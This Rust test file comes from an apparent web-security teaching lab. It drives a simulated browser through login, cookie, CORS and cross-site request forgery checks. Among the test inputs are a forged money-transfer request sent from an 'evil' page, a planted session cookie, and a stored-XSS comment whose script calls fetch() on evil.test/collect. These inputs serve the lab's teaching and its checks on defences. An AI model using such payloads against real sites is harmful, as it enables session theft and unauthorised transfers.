//! The learner's own browser, played over raw sockets: at which names it gets in, what becomes of the names, and how its
//! cookies compare with the course's jar.

use authwalk::internals::course::{AttemptPhase, Input};
use authwalk::internals::lab::BrowserLabel;
use authwalk::internals::model::{Check, Exchange, Initiator};
use authwalk::internals::play::LabSeed;
use serde_json::{Value as Json, json};

use crate::common::{BlockingPlayer, lessons};
use crate::test_lab::{TestLab, plain, start};

/// A lab that is open to a browser, with the names in it.
pub(crate) struct OpenLab {
    pub(crate) lab: TestLab,
    pub(crate) label: &'static str,
    pub(crate) port: u16,
}

/// What a browser got.
pub(crate) struct Answer {
    pub(crate) text: String,
}

impl OpenLab {
    pub(crate) fn new(lab: TestLab) -> Self {
        lab.lab.open_to_browser(vec![BrowserLabel::from_random([0; 8])]);
        // The commands are carried out in order, so that the lane is open once this is done.
        lab.act(json!({ "clock": "1s" }));
        let port = lab.addresses[0].port();
        Self { lab, label: "aaaaaaaa", port }
    }

    /// `http://evil-LABEL.localhost:PORT`.
    pub(crate) fn origin(&self, name: &str) -> String {
        format!("http://{name}-{}.localhost:{}", self.label, self.port)
    }

    /// Sends a request to `name` with these further headers and this body.
    pub(crate) fn send(&self, line: &str, name: &str, headers: &[&str], body: &str) -> Answer {
        let host = self.origin(name).replace("http://", "");
        self.send_to(line, &host, headers, body)
    }

    pub(crate) fn send_to(&self, line: &str, host: &str, headers: &[&str], body: &str) -> Answer {
        let headers: Vec<String> = headers.iter().map(|header| format!("{header}\r\n")).collect();
        let (headers, length) = (headers.concat(), body.len());
        let request = format!("{line} HTTP/1.1\r\nHost: {host}\r\n{headers}Content-Length: {length}\r\n\r\n{body}");
        let answer = self.lab.send_from_outside(request.as_bytes());
        Answer { text: String::from_utf8_lossy(&answer).into_owned() }
    }

    /// Opens a page as somebody does who types its address.
    fn open(&self, line: &str, name: &str, cookie: &str) -> Exchange {
        let headers = [&["Sec-Fetch-Site: none", cookie][..], &NAVIGATION].concat();
        let headers: Vec<&str> = headers.into_iter().filter(|header| !header.is_empty()).collect();
        self.send(line, name, &headers, "");
        self.lab.external_exchange().0
    }

    /// Logs in with the shop's own form; the `Cookie` header from then on.
    fn log_in(&self) -> String {
        let origin = format!("Origin: {}", self.origin("shop"));
        let referer = format!("Referer: {}/", self.origin("shop"));
        let headers =
            [&[origin.as_str(), &referer, "Sec-Fetch-Site: same-origin", FORM_TYPE][..], &NAVIGATION].concat();
        self.send("POST /login", "shop", &headers, "user=alice&password=rabbit-hole-7");
        let (exchange, _) = self.lab.external_exchange();
        assert_eq!((exchange.status, exchange.trace.user.as_deref()), (200, Some("alice")));
        let cookie = &exchange.set_cookie_decisions[0];
        assert!(cookie.stored, "{}", cookie.reason);
        format!("Cookie: sid={}", cookie.value)
    }

    /// What the attacker's page makes the browser send.
    fn send_by_evil(&self, line: &str, headers: &[&str], body: &str) -> Exchange {
        let origin = format!("Origin: {}", self.origin("evil"));
        let referer = format!("Referer: {}/", self.origin("evil"));
        let source = if body.is_empty() { &referer } else { &origin };
        let headers = [&[source.as_str(), "Sec-Fetch-Site: cross-site"][..], headers].concat();
        self.send(line, "shop", &headers, body);
        self.lab.external_exchange().0
    }
}

impl Answer {
    pub(crate) fn status(&self) -> u16 {
        self.text.get(9..12).and_then(|status| status.parse().ok()).unwrap_or_default()
    }
}

pub(crate) const FORM_TYPE: &str = "Content-Type: application/x-www-form-urlencoded";
const NAVIGATION: [&str; 3] = ["Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document", "Accept: text/html"];
const IMAGE: [&str; 2] = ["Sec-Fetch-Mode: no-cors", "Sec-Fetch-Dest: image"];
const FETCH: [&str; 2] = ["Sec-Fetch-Mode: cors", "Sec-Fetch-Dest: empty"];

fn open_with(switches: Json) -> OpenLab {
    OpenLab::new(start(&[switches]))
}

#[test]
fn it_logs_in_and_pays_with_the_same_checks_as_everybody() {
    let lab = OpenLab::new(plain());
    let first = lab.open("GET /", "shop", "");
    assert_eq!((&first.initiator, first.url.as_str()), (&Initiator::OwnBrowser, "https://shop.test/"));
    assert!(first.response.body.contains("<form method=\"post\" action=\"/login\">"), "{}", first.response.body);
    let cookie = lab.log_in();
    let account = lab.open("GET /me", "shop", &cookie);
    assert!(account.response.body.contains("You are <strong>alice</strong>"), "{}", account.response.body);
    assert!(account.cookie_send_decisions.iter().all(|decision| decision.sent && !decision.differs_from_jar));
    let stranger = lab.open("GET /me", "shop", "");
    assert_eq!((stranger.status, stranger.trace.refused_by()), (401, Some(Check::SessionCookie)));
}

#[test]
fn curl_gets_data_at_these_names_and_a_browser_a_page() {
    let lab = OpenLab::new(plain());
    let answer = lab.send("GET /", "shop", &["Accept: */*"], "");
    assert!(answer.text.ends_with(r#"{"page":"start","user":null}"#), "{}", answer.text);
    assert_eq!(lab.lab.external_exchange().0.initiator, Initiator::External);
}

#[test]
fn the_attackers_page_is_told_as_what_it_is_and_meets_the_checks() {
    let strict = open_with(json!({ "shop": { "csrf": { "check_origin": true }, "cookie": { "same_site": "none" } } }));
    let cookie = strict.log_in();
    let headers = [&[cookie.as_str(), FORM_TYPE][..], &NAVIGATION].concat();
    let attack = strict.send_by_evil("POST /transfer", &headers, "to=bob&amount=100");
    assert_eq!((attack.status, attack.trace.refused_by()), (403, Some(Check::Origin)));
    let page = attack.page_request.expect("a page");
    assert_eq!(
        (page.page.as_str(), page.start.word(), page.relation.word()),
        ("https://evil.test/", "form", "cross-site")
    );
    let careless = open_with(json!({ "shop": { "cookie": { "same_site": "none" } } }));
    let cookie = careless.log_in();
    let headers = [&[cookie.as_str(), FORM_TYPE][..], &NAVIGATION].concat();
    let attack = careless.send_by_evil("POST /transfer", &headers, "to=bob&amount=100");
    assert_eq!((attack.status, attack.cookie_send_decisions[0].differs_from_jar), (200, false));
}

#[test]
fn the_shops_own_form_carries_the_token_and_passes() {
    let lab = open_with(
        json!({ "shop": { "csrf": { "token": "synchronizer", "check_origin": true, "check_fetch_site": true } } }),
    );
    let cookie = lab.log_in();
    let form = lab.open("GET /transfer", "shop", &cookie).response.body;
    let token = form.split("name=\"csrf_token\" value=\"").nth(1).and_then(|rest| rest.split('"').next());
    let body = format!("to=bob&amount=50&csrf_token={}", token.expect("a token"));
    let origin = format!("Origin: {}", lab.origin("shop"));
    let headers = [&[origin.as_str(), &cookie, "Sec-Fetch-Site: same-origin", FORM_TYPE][..], &NAVIGATION].concat();
    let answer = lab.send("POST /transfer", "shop", &headers, &body);
    assert!(answer.text.contains("<strong>50</strong> went from"), "{}", answer.text);
}

#[test]
fn a_browser_that_differs_from_the_jar_is_told_how() {
    let lab = open_with(json!({ "shop": { "cookie": { "same_site": "none" } } }));
    let cookie = lab.log_in();
    let sent = lab.send_by_evil("GET /me", &[&[cookie.as_str()][..], &IMAGE].concat(), "");
    assert!(sent.cookie_send_decisions[0].sent && !sent.cookie_send_decisions[0].differs_from_jar);
    let blocked = lab.send_by_evil("GET /me", &IMAGE, "");
    let decision = &blocked.cookie_send_decisions[0];
    assert_eq!((decision.sent, decision.differs_from_jar), (false, true));
    assert_eq!(
        decision.reason,
        "the course's jar would have sent it (host, path and scheme fit); your browser blocks third-party cookies"
    );
    let fetch = lab.send_by_evil("GET /me", &FETCH, "");
    assert!(
        fetch.cookie_send_decisions[0]
            .reason
            .ends_with("this fetch asked for no cookies, or your browser blocks those of third parties")
    );
    let script = lab.open("GET /me", "shop", &format!("{cookie}; theme=dark"));
    let unknown = script.cookie_send_decisions.last().expect("a decision");
    assert_eq!((unknown.name.as_str(), unknown.sent, unknown.differs_from_jar), ("theme", true, true));
}

#[test]
fn firefox_and_safari_are_known_by_what_they_send() {
    let unset = open_with(json!({ "shop": { "cookie": { "same_site": "unset" } } }));
    let cookie = unset.log_in();
    let image = unset.send_by_evil("GET /me", &[&[cookie.as_str()][..], &IMAGE].concat(), "");
    assert!(
        image.cookie_send_decisions[0]
            .reason
            .ends_with("your browser takes a cookie without SameSite for one with None")
    );
    let safari = OpenLab::new(plain());
    safari.log_in();
    let account = safari.open("GET /me", "shop", "");
    assert!(
        account.cookie_send_decisions[0]
            .reason
            .ends_with("your browser keeps no Secure cookie over http, not even on this machine")
    );
}

#[test]
fn names_are_translated_both_ways() {
    let cors = json!({ "allow": "listed", "origins": ["https://spa.test"], "credentials": true });
    let lab = open_with(json!({ "shop": { "cors": cors, "pages": { "encodes_output": false } } }));
    let spa = format!("Origin: {}", lab.origin("spa"));
    let headers = [&[spa.as_str(), "Sec-Fetch-Site: cross-site"][..], &FETCH].concat();
    lab.send("GET /", "shop", &headers, "");
    let (exchange, _) = lab.lab.external_exchange();
    assert_eq!(exchange.response.header("access-control-allow-origin"), Some(lab.origin("spa").as_str()));
    assert_eq!(exchange.page_request.expect("a page").cors.verdict.word(), "allowed");

    lab.open("GET /toss?sid=planted", "blog.shop", "");
    let tossed = lab.open("GET /me", "shop", "Cookie: sid=planted");
    assert!(!tossed.cookie_send_decisions[0].differs_from_jar, "the jar has it for shop-… and below");

    let cookie = lab.log_in();
    let origin = format!("Origin: {}", lab.origin("shop"));
    let headers = [&[origin.as_str(), &cookie, "Sec-Fetch-Site: same-origin", FORM_TYPE][..], &NAVIGATION].concat();
    let script = "text=%3Cscript%3Efetch('https://evil.test/collect')%3C/script%3E";
    lab.send("POST /comments", "shop", &headers, script);
    lab.lab.external_exchange();
    let comments = lab.open("GET /comments", "shop", &cookie).response;
    assert!(comments.body.contains(&format!("<script>fetch('{}/collect')", lab.origin("evil"))), "{}", comments.body);
    let policy = comments.header("content-security-policy").expect("a policy");
    assert!(policy.ends_with("; sandbox allow-forms allow-same-origin"), "no script of a comment runs: {policy}");
    assert!(
        policy.starts_with(&format!("default-src http://*.localhost:{} 'unsafe-inline' data:;", lab.port)),
        "{policy}"
    );
}

#[test]
fn a_preflight_is_answered_and_sets_nothing() {
    let cors =
        json!({ "allow": "listed", "origins": ["https://spa.test"], "credentials": true, "headers": ["content-type"] });
    let lab = open_with(json!({ "shop": { "cors": cors } }));
    let spa = format!("Origin: {}", lab.origin("spa"));
    let asks = ["Access-Control-Request-Method: POST", "Access-Control-Request-Headers: content-type"];
    let headers = [&[spa.as_str(), "Sec-Fetch-Site: cross-site"][..], &FETCH, &asks].concat();
    lab.send("OPTIONS /transfer", "shop", &headers, "");
    let page = lab.lab.external_exchange().0.page_request.expect("a page");
    assert_eq!((page.is_preflight, page.cors.verdict.word()), (true, "allowed"));
}

#[test]
fn who_logs_out_is_led_to_the_start_page() {
    let lab = OpenLab::new(plain());
    let cookie = lab.log_in();
    let origin = format!("Origin: {}", lab.origin("shop"));
    let headers = [&[origin.as_str(), &cookie, "Sec-Fetch-Site: same-origin", FORM_TYPE][..], &NAVIGATION].concat();
    let answer = lab.send("POST /logout", "shop", &headers, "");
    assert_eq!(answer.status(), 303);
    assert!(answer.text.contains("Location: /\r\n"), "{}", answer.text);
}

#[test]
fn it_is_let_in_for_as_long_as_the_learner_acts_by_hand() {
    let lessons = lessons();
    let lesson = lessons.iter().find(|lesson| lesson.id == "session-login").expect("a lesson");
    let mut player = BlockingPlayer::start(lesson, LabSeed::Fixed(7));
    assert_eq!(player.inner().browser_address(0), None, "off until asked for");
    player.open_to_browser();
    assert_eq!(*player.attempt().phase(), AttemptPhase::Sandbox, "before a step it begins free play");
    let address = player.inner().browser_address(0).expect("an address");
    assert!(address.shop.starts_with("http://shop-") && address.evil.starts_with("http://evil-"), "{address:?}");
    player.open_to_browser();
    assert_eq!(player.inner().browser_address(0), Some(address.clone()), "the address stays while it is open");
    player.press(Input::LeaveSandbox);
    assert_eq!(player.inner().browser_address(0), None);
    player.open_to_browser();
    assert_ne!(player.inner().browser_address(0), Some(address), "whatever the seed, the label is another one");
}
